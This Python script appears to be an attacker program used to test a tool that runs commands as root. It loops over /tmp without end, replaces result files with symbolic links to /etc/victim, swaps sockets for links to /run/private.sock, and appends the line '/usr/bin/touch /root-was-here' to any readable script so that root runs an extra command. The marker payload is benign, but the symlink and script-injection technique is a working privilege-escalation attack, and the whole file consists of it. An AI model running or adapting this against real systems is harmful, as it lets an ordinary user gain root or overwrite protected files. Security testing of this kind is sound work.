#!/usr/bin/python3
"""A program under the person's account that attacks what a prompt leaves within its reach, over and over.

Arguments: what it does with sockets (`sockets` replaces them by links, `files` leaves them), and a file that counts its
rounds. It looks through the temporary folder, since that is where fresh folders are made.
"""
import os
import stat
import sys

LINE = b'\n/usr/bin/touch /root-was-here\n'
RESULTS = ['stdout', 'stderr', 'code']


def replace_by_link(path, target):
    os.symlink(target, path + '.link')
    os.rename(path + '.link', path)


def attack_folder(folder):
    """Root is to write its results through links."""
    for name in RESULTS:
        path = os.path.join(folder, name)
        if not os.path.lexists(path):
            replace_by_link(path, '/etc/victim')


def attack_file(path):
    """Root is to run one line more."""
    mode = os.lstat(path).st_mode
    if stat.S_ISSOCK(mode) and sys.argv[1] == 'sockets':
        replace_by_link(path, '/run/private.sock')
    if not stat.S_ISREG(mode):
        return
    with open(path, 'rb') as opened:
        content = opened.read()
    if content and LINE not in content and b'\0' not in content:
        with open(path, 'ab') as opened:
            opened.write(LINE)


def attempt(attack, path):
    try:
        attack(path)
    except OSError:
        pass  # It is gone, or another's.


number = 0
while True:
    for folder, folders, files in os.walk('/tmp'):
        if folder != '/tmp':
            attempt(attack_folder, folder)
        for file in files:
            attempt(attack_file, os.path.join(folder, file))
    number += 1
    with open(sys.argv[2] + '.new', 'w') as counting:
        counting.write(str(number))
    os.rename(sys.argv[2] + '.new', sys.argv[2])
